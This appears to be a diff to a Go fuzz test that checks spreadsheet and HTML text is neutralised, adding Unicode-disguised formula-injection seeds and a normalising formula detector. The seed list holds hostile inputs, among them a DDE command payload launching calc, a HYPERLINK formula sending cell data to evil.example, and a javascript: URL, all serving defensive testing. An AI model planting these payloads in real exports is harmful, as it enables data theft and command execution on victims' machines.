@@ -13,10 +13,12 @@ import (
 	"strconv"
 	"strings"
 	"testing"
+	"unicode"
 	"unicode/utf8"
 
 	"github.com/xuri/excelize/v2"
 	"golang.org/x/net/html"
+	"golang.org/x/text/unicode/norm"
 )
 
 // Portal text is untrusted. These targets feed fuzzed titles, organization
@@ -82,6 +84,9 @@ var hostileSeeds = []string{
 	`<!--`, `]]>`, `{{.Portal}}`, `${alert(1)}`,
 	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
 	`=cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(A1:A2)`, "\t=1+1", "\r=1+1", "\x00=1+1", " =1+1",
+	"\n=1+1", "\x00\x00 =1", "\u200b=1+1", "\ufeff=1+1", "\u00ad\u2060@SUM(A1)", "\u3000=1",
+	"\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\ufe66x", "\u207c1", "\u22121", "=\u0338x",
+	"\u200f\u200e\u061c marks", "sep\u2028line\u2029para",
 	"line1\nline2\r\nline3", "a\x1b[31mred", "\u202eevil\u202c", "\u2066isolated\u2069",
 	"\xff\xfe invalid utf-8 \xc3", "a,b;c\td\"e'f", "javascript:alert(1)",
 	`https://example.org/"&cmd|' /C calc'!A0&"`,
@@ -125,10 +130,10 @@ func assertInertCell(t *testing.T, where, v string, oneLine bool) {
 	if !utf8.ValidString(v) {
 		t.Fatalf("%s: invalid UTF-8 %q", where, v)
 	}
-	if strings.ContainsRune("=+-@\t\r", rune(v[0])) {
+	if v[0] != '\'' && looksLikeFormula(v) {
 		t.Fatalf("%s: cell %q would be read as a formula", where, v)
 	}
-	if strings.ContainsAny(v, "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") {
+	if strings.ContainsAny(v, "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029") {
 		t.Fatalf("%s: bidirectional override kept in %q", where, v)
 	}
 	for _, r := range v {
@@ -136,6 +141,26 @@ func assertInertCell(t *testing.T, where, v string, oneLine bool) {
 			t.Fatalf("%s: control character %U in %q", where, r, v)
 		}
 	}
+}
+
+// looksLikeFormula is the test's own view of a formula: once leading white
+// space, controls and invisible format characters are trimmed and the rest
+// NFKC-normalised, the text starts with = + - @ or a minus sign; or its first
+// visible character does before normalising composes it with what follows.
+func looksLikeFormula(v string) bool {
+	rest := strings.TrimLeftFunc(v, func(r rune) bool {
+		return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r)
+	})
+	if rest == "" {
+		return false
+	}
+	first, _ := utf8.DecodeRuneInString(rest)
+	for _, s := range []string{string(first), norm.NFKC.String(string(first)), norm.NFKC.String(rest)} {
+		if s != "" && (strings.ContainsRune("=+-@", rune(s[0])) || strings.HasPrefix(s, "\u2212")) {
+			return true
+		}
+	}
+	return false
 }
 
 func FuzzNeutralise(f *testing.F) {
@@ -150,10 +175,11 @@ func FuzzNeutralise(f *testing.F) {
 			n := Neutralise(s, oneLine)
 			assertInertCell(t, "Neutralise", n, oneLine)
 			// Ordinary text is left exactly as it was.
-			plain := utf8.ValidString(s) && s != "" && !strings.ContainsRune("=+-@", rune(s[0])) &&
+			plain := utf8.ValidString(s) && s != "" && !looksLikeFormula(s) &&
 				strings.IndexFunc(s, func(r rune) bool {
 					return r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) || r == 0xfffe || r == 0xffff ||
-						(r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069)
+						(r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) ||
+						r == 0x200e || r == 0x200f || r == 0x061c || r == 0x2028 || r == 0x2029
 				}) < 0
 			if plain && n != s {
 				t.Fatalf("plain text %q changed to %q", s, n)
